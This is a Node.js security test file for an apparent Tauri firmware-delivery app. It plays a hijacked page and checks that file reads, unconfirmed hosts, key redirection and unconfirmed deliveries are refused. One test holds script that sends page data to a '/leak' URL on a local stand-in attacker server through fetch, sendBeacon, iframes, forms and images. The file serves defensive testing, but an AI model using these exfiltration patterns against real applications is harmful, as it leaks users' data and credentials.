// A page that was taken over: it calls every command of the shell with whatever it likes, and nobody presses a button of
// the system's dialogs. No file, no key and no byte leaves this computer, and nothing is started.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { test } from "node:test";
import { CLI, Firmdrop, folder, rawFile, withoutKeyStore } from "./lib/firmdrop.mjs";
import { until } from "./lib/webdriver.mjs";

const KEY = "ak_canary_0123456789abcdef";

/** Calls a command as the page can; answers what came of it. */
async function call(window, command, args = {}) {
  return window.session.wait(
    `const [command, args, done] = arguments;
     if ("onBytes" in args) args.onBytes = { toJSON: () => "__CHANNEL__:1" };
     window.__TAURI_INTERNALS__.invoke(command, args).then((value) => done({ value }), (refused) => done({ refused: refused ?? null }));`,
    command,
    args,
  );
}

async function refuses(window, command, args, code) {
  const { refused: error, value } = await call(window, command, args);
  assert.notEqual(error, undefined, `${command} ${JSON.stringify(args)} answered ${JSON.stringify(value)}`);
  if (code !== undefined) assert.equal(error.code, code, `${command}: ${JSON.stringify(error)}`);
  return error;
}

/** A server that counts what reaches it. */
async function listener(t) {
  const heard = { requests: [], url: "", host: "" };
  const server = createServer((request, answer) => {
    heard.requests.push(`${request.method} ${request.url} ${request.headers.authorization ?? ""}`);
    answer.setHeader("content-type", "application/json");
    const campaign = { object: "update-campaign", id: "0".repeat(32), name: "Spring", phase: "draft", device_filter: "state__eq=registered" };
    if (request.url?.includes("/update-campaigns/")) answer.end(JSON.stringify(campaign));
    else answer.end(JSON.stringify({ object: "list", data: [], has_more: false, limit: 50, order: "ASC", total_count: 0 }));
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  t.after(() => void server.close());
  heard.host = `127.0.0.1:${server.address().port}`;
  heard.url = `http://${heard.host}`;
  return heard;
}

/** A real account on that server: not part of the simulated world. */
function addAccount(t, home, host, ...more) {
  const key = join(folder(), "key");
  writeFileSync(key, KEY);
  const args = ["--home", home, "account", "add", "real", "--host", host, "--key-file", key, ...more, "--json"];
  const ran = spawnSync(CLI, args, { encoding: "utf8", env: withoutKeyStore() });
  assert.equal(ran.status, 0, ran.stdout + ran.stderr);
}

const hostile = (t, options = {}) =>
  Firmdrop.open(t, { ...options, env: { ...withoutKeyStore(), FIRMDROP_E2E_CONFIRM: "no", ...options.env } });

test("a page cannot read a file that nobody opened: paths and forged tokens are refused", { timeout: 90_000 }, async (t) => {
  const secret = rawFile(join(folder(), "secret.bin"), 5000);
  const window = await hostile(t);
  for (const file of [secret, 1, 7, 4_294_967_295, -1, null, { path: secret }]) {
    await refuses(window, "inspect", { file });
    await refuses(window, "offers", { file });
    await refuses(window, "digests", { file, onBytes: true });
    await refuses(window, "plan", { file, destinations: ["sim:reader-1"], options: {} });
    await refuses(window, "import_manifest_key", { name: "mine", file, development: true });
    await refuses(window, "send_manifest", { account: "demo", file, name: "mine" });
    await refuses(window, "fetch_file", { file, onBytes: true });
    await refuses(window, "allow_host", { file });
  }
  await refuses(window, "open_texts", { texts: [secret] }, "FD-203");
  await refuses(window, "open_texts", { texts: [`file://${secret}`] }, "FD-203");
  await refuses(window, "open_job_files", { id: secret });
  await refuses(window, "inspect", { file: 1 }, "FD-103");
});

test("a page can neither load another page nor send anything to another host", { timeout: 90_000 }, async (t) => {
  const heard = await listener(t);
  const window = await hostile(t);
  const own = await window.session.run("return location.href");
  await window.session.run(
    `const url = arguments[0] + "/leak?" + document.title;
     window.open(url); location.assign(url);
     const link = Object.assign(document.createElement("a"), { href: url, download: "x" }); document.body.append(link); link.click();
     const frame = document.createElement("iframe"); frame.src = url; document.body.append(frame);
     const form = Object.assign(document.createElement("form"), { action: url, method: "post" }); document.body.append(form); form.submit();
     new Image().src = url; fetch(url).catch(() => {}); navigator.sendBeacon(url, "x");`,
    heard.url,
  );
  await refuses(window, "open_texts", { texts: [`${heard.url}/leak`] }, "FD-203");
  // What was asked for before this call has happened or was refused by now.
  await call(window, "error_codes");
  assert.equal(await window.session.run("return location.href"), own);
  await window.sees(".main[data-view]");
  assert.deepEqual(heard.requests, []);
});

test("a page cannot make the shell contact a reader or a host that nobody confirmed", { timeout: 90_000 }, async (t) => {
  const heard = await listener(t);
  const socket = createSocket("udp4");
  t.after(() => void socket.close());
  let packets = 0;
  socket.on("message", () => (packets += 1));
  socket.bind(0, "127.0.0.1");
  await once(socket, "listening");
  const reader = `smp+udp:127.0.0.1:${socket.address().port}`;
  const window = await hostile(t);
  await refuses(window, "probe", { destination: reader }, "FD-203");
  await refuses(window, "add_reader", { address: reader }, "FD-203");
  const { value: sample } = await call(window, "open_sample");
  await refuses(window, "plan", { file: sample.token, destinations: [reader], options: {} }, "FD-203");
  const draft = { name: "evil", kind: "pelion", host: heard.url, access_key: "data", proxy: null, extra_ca_pem: null, production: false, fields: {}, secrets: {} };
  await refuses(window, "add_account", { draft }, "FD-203");
  await refuses(window, "test_account", { name: "evil" });
  assert.equal(packets, 0);
  assert.deepEqual(heard.requests, []);
});

test("a page gets no key to another host, and cannot take the production mark away", { timeout: 90_000 }, async (t) => {
  const home = folder();
  const [real, evil] = [await listener(t), await listener(t)];
  addAccount(t, home, real.url, "--production");
  const window = await hostile(t, { home, args: [] });
  const draft = (change) => ({ name: "real", kind: null, host: real.url, access_key: null, proxy: null, extra_ca_pem: null, production: true, fields: {}, secrets: {}, ...change });
  for (const change of [{ host: evil.url }, { proxy: evil.url }, { production: false }]) {
    await refuses(window, "change_account", { draft: draft(change) }, "FD-203");
    await refuses(window, "change_account", { draft: draft({ ...change, access_key: "of the page" }) }, "FD-203");
  }
  await call(window, "test_account", { name: "real" });
  const [account] = (await call(window, "accounts")).value.filter(({ name }) => name === "real");
  assert.deepEqual([account.host, account.production], [real.url, true]);
  assert.deepEqual(evil.requests, []);
});

test("even a confirmed change sends the stored key nowhere else", { timeout: 90_000 }, async (t) => {
  const home = folder();
  const [real, evil] = [await listener(t), await listener(t)];
  addAccount(t, home, real.url);
  const window = await hostile(t, { home, args: [], env: { FIRMDROP_E2E_CONFIRM: "yes" } });
  const draft = { name: "real", kind: null, host: evil.url, access_key: null, proxy: null, extra_ca_pem: null, production: false, fields: {}, secrets: {} };
  await refuses(window, "change_account", { draft });
  await call(window, "test_account", { name: "real" });
  assert.ok(!JSON.stringify(evil.requests).includes(KEY), JSON.stringify(evil.requests));
});

test("a page starts nothing: no delivery, no campaign, no manifest, without a button outside of it", { timeout: 90_000 }, async (t) => {
  const home = folder();
  const heard = await listener(t);
  addAccount(t, home, heard.url);
  const file = rawFile(join(folder(), "picked.bin"), 3000);
  const window = await hostile(t, { home, args: [], env: { FIRMDROP_E2E_PICK: file } });
  const { value: [picked] } = await call(window, "pick_files");
  const { value: plans, refused } = await call(window, "plan", { file: picked.token, destinations: ["pelion:real"], options: {} });
  assert.equal(plans?.length, 1, JSON.stringify(refused));
  const confirmed = plans[0].confirmations.map(({ about }) => about);
  await refuses(window, "deliver", { plans: [{ plan: plans[0].id, confirmed }] }, "FD-203");
  await refuses(window, "deliver", { plans: [{ plan: "forged", confirmed }] });
  await refuses(window, "start_campaign", { account: "real", id: "0".repeat(32), expectedDevices: 1 }, "FD-203");
  await refuses(window, "send_manifest", { account: "real", file: picked.token, name: "mine" }, "FD-203");
  const writes = heard.requests.filter((line) => !line.startsWith("GET"));
  assert.deepEqual(writes, []);
  assert.deepEqual((await call(window, "watch", { onFeed: null })).value, undefined);
});

test("a plan is not delivered before what it needs was confirmed, whatever the page leaves out", { timeout: 90_000 }, async (t) => {
  const window = await Firmdrop.open(t);
  const { value: sample } = await call(window, "open_sample");
  const plan = async () => (await call(window, "plan", { file: sample.token, destinations: ["sim:reader-1"], options: {} })).value[0];
  await until("the reader is identified", () => call(window, "probe", { destination: "sim:reader-1" }).then(({ value }) => value !== undefined));
  const first = await plan();
  const { value: [id] } = await call(window, "deliver", { plans: [{ plan: first.id, confirmed: first.confirmations.map(({ about }) => about) }] });
  await until("it is written", async () => (await call(window, "job", { id })).value.summary.state.state === "finished", 60_000);
  await call(window, "probe", { destination: "sim:reader-1" });
  const again = await plan();
  assert.deepEqual(again.confirmations.map(({ about }) => about), ["same_version", "unsigned"]);
  await refuses(window, "deliver", { plans: [{ plan: again.id, confirmed: [] }] }, "FD-203");
  await refuses(window, "deliver", { plans: [{ plan: again.id, confirmed: ["unsigned"] }] }, "FD-203");
});
